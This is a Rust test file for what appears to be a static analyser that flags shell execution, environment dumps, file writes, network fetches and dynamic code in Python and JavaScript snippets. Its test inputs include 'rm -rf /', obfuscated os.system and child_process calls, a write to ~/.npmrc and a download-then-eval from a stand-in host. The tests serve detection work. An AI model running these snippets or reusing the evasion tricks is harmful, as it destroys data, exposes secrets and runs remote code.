use super::{Act, Language, analyse};

fn py(code: &str) -> Vec<Act> {
    analyse(Language::Python, code)
}

#[test]
fn python_resolves_aliases() {
    assert_eq!(
        py("import subprocess as sp; sp.run(['rm', '-rf', '/'])"),
        vec![Act::Exec(Some(vec!["rm".into(), "-rf".into(), "/".into()]))]
    );
    assert_eq!(
        py("from os import system as s\ns('id')"),
        vec![Act::Shell(Some("id".into()))]
    );
    assert_eq!(
        py("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')"),
        vec![Act::Shell(Some("id".into()))]
    );
}

#[test]
fn python_reads_and_prints() {
    assert_eq!(
        py("import json,sys; print(json.load(sys.stdin)['x'])"),
        vec![]
    );
    assert_eq!(
        py("import os; print(os.environ.get('HOME'))"),
        vec![Act::EnvGet(Some("HOME".into()))]
    );
    assert_eq!(py("import os; print(os.environ)"), vec![Act::EnvAll]);
    assert!(matches!(py("def f(:").as_slice(), [Act::Unparseable(_)]));
}

#[test]
fn python_environment_in_a_comprehension() {
    assert_eq!(
        py("import os;[print(k,v) for k,v in os.environ.items()]"),
        vec![Act::EnvAll]
    );
}

#[test]
fn python_every_expression_is_walked() {
    let shell = |c: &str| vec![Act::Shell(Some(c.into()))];
    assert_eq!(py("import os\nwith os.popen('id') as f: pass"), shell("id"));
    assert_eq!(py("import os\ndef f(x=os.system('a')): pass"), shell("a"));
    assert_eq!(py("import os\ndef f(x: os.system('b')): pass"), shell("b"));
    assert_eq!(
        py("import os\nmatch 1:\n case 1 if os.system('c'): pass"),
        shell("c")
    );
    assert_eq!(py("import os\nsorted([], key=os.system('d'))"), shell("d"));
}

fn js(code: &str) -> Vec<Act> {
    analyse(Language::JavaScript, code)
}

#[test]
fn javascript_resolves_requires_imports_and_destructuring() {
    let argv = |v: &[&str]| Act::Exec(Some(v.iter().map(|s| (*s).to_owned()).collect()));
    assert_eq!(
        js("const cp = require('node:child_process'); cp.execSync('id')"),
        vec![Act::Shell(Some("id".into()))]
    );
    assert_eq!(
        js("const {spawn: s} = require('child_process'); s('rm', ['-rf', '/'])"),
        vec![argv(&["rm", "-rf", "/"])]
    );
    assert_eq!(
        js("import { execFileSync } from 'child_process'; execFileSync('git', ['push'])"),
        vec![argv(&["git", "push"])]
    );
    assert_eq!(
        js("import('child_process').then(m => m.exec('reboot'))"),
        vec![Act::Shell(Some("reboot".into()))]
    );
    assert_eq!(
        js("require('fs').promises.writeFile(require('os').homedir() + '/.npmrc', 'x')"),
        vec![Act::Write {
            path: Some("~/.npmrc".into()),
            content: Some("x".into())
        }]
    );
}

#[test]
fn javascript_environment_reads_and_dumps() {
    assert_eq!(
        js("console.log(process.env.HOME)"),
        vec![Act::EnvGet(Some("HOME".into()))]
    );
    assert_eq!(
        js("console.log(process.env['X'])"),
        vec![Act::EnvGet(Some("X".into()))]
    );
    assert_eq!(
        js("console.log(JSON.stringify(process.env))"),
        vec![Act::EnvAll]
    );
    assert_eq!(js("if ('CI' in process.env) console.log(1)"), vec![]);
    assert_eq!(js("console.log(require('./package.json').version)"), vec![]);
    assert!(matches!(
        js("console.log((").as_slice(),
        [Act::Unparseable(_)]
    ));
    assert_eq!(js("eval('1+1')"), vec![]);
    assert_eq!(js("eval(x)"), vec![Act::DynamicCode]);
    assert_eq!(js("new Function('return 1')()"), vec![]);
}

#[test]
fn indirect_reaches_are_resolved_or_refused() {
    let shell = |c: &str| vec![Act::Shell(Some(c.into()))];
    assert_eq!(py("import os\nf = os.system\nf('a')"), shell("a"));
    assert_eq!(py("import sys\nsys.modules['os'].system('b')"), shell("b"));
    assert_eq!(
        py("import os\nvars(os)['system']('c')"),
        vec![Act::DynamicCode]
    );
    assert_eq!(
        py("import os\nos.__dict__['system']('d')"),
        vec![Act::DynamicCode]
    );
    assert_eq!(
        py("list(map(__import__('os').system, ['e']))"),
        vec![Act::Shell(None)]
    );
    assert_eq!(js("globalThis['ev' + 'al'](x)"), vec![Act::DynamicCode]);
    assert_eq!(
        js("process.mainModule.require('child_process').execSync('f')"),
        shell("f")
    );
    assert_eq!(
        js("const r = require; r('child_process').exec('g')"),
        shell("g")
    );
    assert_eq!(
        js("[].constructor.constructor(x)()"),
        vec![Act::DynamicCode]
    );
}

#[test]
fn javascript_download_then_eval() {
    let acts = js(
        "require('https').get('https://e.example/p.js', r => { let d=''; r.on('data', c => d+=c); r.on('end', () => eval(d)) })",
    );
    assert_eq!(acts, vec![Act::Network, Act::DynamicCode]);
}
